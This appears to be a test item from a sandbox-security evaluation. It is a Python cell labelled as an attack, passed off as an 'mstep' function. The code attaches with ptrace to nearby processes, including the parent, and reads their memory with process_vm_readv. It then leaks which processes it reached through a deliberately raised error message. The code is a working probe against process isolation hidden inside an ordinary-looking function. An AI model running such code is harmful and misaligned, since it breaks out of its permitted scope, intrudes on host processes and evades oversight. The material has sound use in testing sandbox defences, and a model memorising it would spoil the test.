# attack: other processes are traced and their memory is read by system calls
# outcome: mstep error
# %% cell mstep
import ctypes
import os

system = ctypes.CDLL(None, use_errno=True)
traced = [p for p in (1, os.getppid(), *range(2, 60)) if p != os.getpid() and system.ptrace(16, p, 0, 0) == 0]
buffer = ctypes.create_string_buffer(8)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


local = Vector(ctypes.addressof(buffer), 8)
read = [p for p in range(1, 60) if system.process_vm_readv(p, ctypes.byref(local), 1, ctypes.byref(local), 1, 0) > 0]


def mstep(x, posterior):
    raise ValueError(f"{traced} {read}")
